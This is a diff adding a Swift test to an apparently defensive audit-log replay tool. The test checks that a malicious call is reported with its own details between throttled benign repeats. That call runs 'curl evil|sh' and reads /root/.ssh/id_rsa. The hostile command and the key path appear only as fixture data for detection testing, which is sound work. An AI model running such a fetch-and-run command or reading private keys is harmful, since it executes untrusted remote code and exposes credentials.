@@ -26,6 +26,34 @@ import TestSupport
         #expect((object["audit"] as? [String: Any])?["serial"] as? Int == 25_328_341)
     }
 
+    /// Issue 12 item 2: benign → `curl evil|sh` reading /root/.ssh/id_rsa →
+    /// benign, same executable and syscall. The throttle folds the repeat of
+    /// the benign call, never the evil one, and keeps the first occurrence's
+    /// details in its summary.
+    @Test func evilBetweenBenignRepeatsIsReportedWithItsOwnDetails() throws {
+        let log = Fixtures.directory().appendingPathComponent("replay/benign-evil-benign.log").path
+        let r = try CallguardCommand.run(["replay", log, "--policies", policies, "--assume-image", "localhost/app:1", "--stats"])
+        #expect(r.status == 1, "\(r.stderr)")
+        let objects = try r.stdout.split(separator: "\n").map { line in
+            try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
+        }
+        func process(_ o: [String: Any]) -> [String: Any] { o["process"] as? [String: Any] ?? [:] }
+        func path(_ o: [String: Any]) -> String? { (o["file"] as? [String: Any])?["path"] as? String }
+        let evil = try #require(objects.first { path($0) == "/root/.ssh/id_rsa" }, "the evil call must be reported: \(r.stdout)")
+        #expect(process(evil)["command_line"] as? String == "sh\\x00-c\\x00curl evil|sh")
+        #expect(process(evil)["pid"] as? Int == 12041)
+        #expect((evil["audit"] as? [String: Any])?["serial"] as? Int == 25_400_002)
+        let benign = objects.filter { path($0) == "/etc/hostname" }
+        #expect(benign.map { process($0)["pid"] as? Int } == [12040, 12040], "the summary keeps the first occurrence's pid")
+        #expect(benign.last.flatMap { ($0["fold"] as? [String: Any])?["first_serial"] as? Int } == 25_400_003)
+        #expect(objects.reduce(0) { $0 + ($1["count"] as? Int ?? 0) } == 3)
+        let line = try #require(r.stderr.split(separator: "\n").last { $0.hasPrefix("{\"records\"") })
+        let stats = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
+        let sinks = try #require(stats["sinks"] as? [String: Any])
+        #expect((sinks["folded_by_cause"] as? [String: Int])?["repeats"] == 1)
+        #expect((sinks["dropped_by_cause"] as? [String: Int])?.values.reduce(0, +) == 0)
+    }
+
     @Test func cefFormatCarriesTheSameViolation() throws {
         let r = try CallguardCommand.run(
             ["replay", log, "--policies", policies, "--assume-image", "localhost/app:1", "--format", "cef"])
